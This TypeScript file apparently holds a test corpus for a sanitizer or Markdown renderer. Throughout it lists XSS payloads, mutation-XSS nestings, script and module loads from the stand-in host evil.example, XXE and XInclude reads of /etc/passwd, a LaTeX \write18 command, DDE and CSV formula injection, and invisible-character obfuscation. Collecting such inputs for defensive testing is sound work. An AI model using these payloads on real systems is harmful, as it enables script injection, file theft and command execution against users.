/** What came after the first corpus had held: newer elements and events, schemes of apps, other notations, and names that a script may stumble over. */

const strange = ['alert(1)', 'javascript:alert(1)'];

const elements = [
  ...['onscrollend', 'onscrollsnapchange', 'onbeforematch', 'oncontentvisibilityautostatechange', 'oncommand'].map(
    (event) => `<div hidden=until-found style="overflow:auto;content-visibility:auto" ${event}=alert(1)>甲</div>`,
  ),
  '<button commandfor=d command=show-modal>甲</button><dialog id=d oncommand=alert(1)>',
  '<select><button><selectedcontent onload=alert(1)></selectedcontent></button><option><img src=x onerror=alert(1)></select>',
  '<fencedframe mode=opaque-ads></fencedframe>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/a"]}]}</script>',
  '<script type=importmap>{"imports":{"./a.js":"https://evil.example/a.js"}}</script>',
  '<link rel=modulepreload href=https://evil.example/a.js>',
  '<link rel=expect blocking=render href=#never>',
  '<link rel=compression-dictionary href=//evil.example/a>',
  '<img attributionsrc=https://evil.example/a><a attributionsrc=//evil.example href=/>甲</a>',
  '<a ping=//evil.example/a href=/>甲</a>',
  '<iframe credentialless loading=lazy src=//evil.example></iframe>',
  '<meta http-equiv=origin-trial content=a><meta http-equiv=delegate-ch content="a https://evil.example">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u001B$B<script>alert(1)</script>\u001B(B',
  '\u001B(J"\u001B(B onclick=alert(1)',
  ...['xmp', 'plaintext', 'noembed', 'noframes', 'listing', 'title', 'textarea'].map(
    (name) => `<${name}><img title="</${name}><img src=x onerror=alert(1)>">`,
  ),
  '<math><mi><table><mi><mglyph><style><math title="</style><img src onerror=alert(1)>">',
  '<svg><desc><style><a title="</style><img src=x onerror=alert(1)>">',
  '<svg><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src=x onerror=alert(1)>',
  '<template><template shadowrootmode=open shadowrootclonable><script>alert(1)</script></template></template>',
  '<svg><image href=//evil.example/a.svg /><feImage href=//evil.example/b />',
  '<svg><text><textPath href=//evil.example/a#b>甲</textPath></text></svg>',
  '<style>@view-transition{navigation:auto}*{anchor-name:--a}</style>',
  '<b style="background:image-set(url(//evil.example/a) 1x)">甲</b>',
  '<p style="behavior:url(#default#time2)" onbegin=alert(1)>',
];

const schemes = [
  'weixin://dl/business/?t=a',
  'alipays://platformapi/startapp?appId=1',
  'snssdk1128://user/profile/1',
  'market://details?id=a',
  'sms:110?body=a',
  'tel:*%2306%23',
  'tel:+86;phone-context=javascript:alert(1)',
  'facetime:a@evil.example',
  'ms-word:ofe|u|https://evil.example/a.docx',
  'search-ms:query=a&crumb=location:\\\\evil.example\\a',
  'shell:startup',
  'mhtml:file://evil.example/a.mht',
  'about:srcdoc',
  'chrome://settings',
  'android-app://com.a/https/evil.example',
  'web+a:javascript:alert(1)',
  'https://www。evil。example/',
  'https://evil.example\u0000.gov.cn/',
  'https://[::ffff:7f00:1]/',
  'https://a:b@c@evil.example/',
  '/#:~:text=<script>',
  '/\u2028javascript:alert(1)',
].flatMap((address) => [address, `[甲](${address} "x\\" onclick=alert(1)")`, `<${address}>`]);

const notations = [
  ...['!!js/function "alert(1)"', '&a [*a]', '<<: *a', '%YAML 1.1', '? a\n: b', '!!binary aaaa', '...\n---\ntitle: 乙'],
  ...[
    '\\input{/etc/passwd}',
    '\\write18{id}',
    '}},\n@string{a = "b"',
    'ER  - \nTY  - JOUR',
    '\\href{javascript:alert(1)}{甲}',
  ],
  ...['=DDE("cmd";"/C calc";"a")', '"=1+1"', '\u200B=1+1', '\uFEFF@SUM(1)', '\u22121+cmd', '%3D1+1', '甲\t=1+1'],
  ...['{ INCLUDETEXT "c:\\\\a" }', '{HYPERLINK "javascript:alert(1)"}', '</w:t></w:r><w:fldSimple w:instr="DDE a b"/>'],
  ...[
    '甲;ENCODING=QUOTED-PRINTABLE:=0D=0AATTACH:a',
    '甲\\nBEGIN:VALARM',
    'BEGIN:VCARD\r\nEND:VCARD',
    '甲\r\n SUMMARY:乙',
  ],
  ...[
    '<tspan onclick=alert(1)>甲</tspan>',
    '</text><image href="file:///etc/passwd"/>',
    'url(#a)',
    '&#xFFFE;&#0;&#x110000;',
  ],
  ...[
    '<?xml version="1.1"?>&#1;',
    '<xi:include href="file:///etc/passwd"/>',
    '<!ENTITY % a SYSTEM "//evil.example/a">%a;',
  ],
  ...[
    '&ltscript&gtalert(1)&lt/script&gt',
    '%c0%bcscript%c0%be',
    '%u003cscript%u003e',
    '&lt;&#115cript&gt;',
    '\\74script\\76',
  ],
  ...[
    '<mark>甲</mark>',
    '</mark><img src=x onerror=alert(1)><mark>',
    '\u0001甲\u0002',
    '{"@context":"//evil.example/a.json"}',
  ],
];

const names = [
  ...['then', 'toJSON', 'valueOf', '__defineGetter__', 'length', 'prototype', 'caller'],
  ...['__proto__', 'constructor', 'toString', 'location', 'body', 'forms', 'fnref1', 'main'].flatMap((name) => [
    `# 甲 {#${name}}`,
    `甲[^${name}]\n\n[^${name}]: 乙`,
    `::: ${name}\n甲\n:::`,
    `\`\`\`${name}\n甲\n\`\`\``,
    `[甲][${name}]\n\n[${name}]: /${name}/`,
  ]),
];

const unseen = ['\u3164', '\uFFA0', '\u2800', '\u180E', '\u{E0041}\u{E0042}', '\u034F', '\uFE01', '\u{E0100}'].flatMap(
  (sign) => strange.map((core) => `${sign}${[...core].join(sign)}`),
);

/** All of them. */
export const newer: readonly string[] = [...elements, ...schemes, ...notations, ...names, ...unseen];
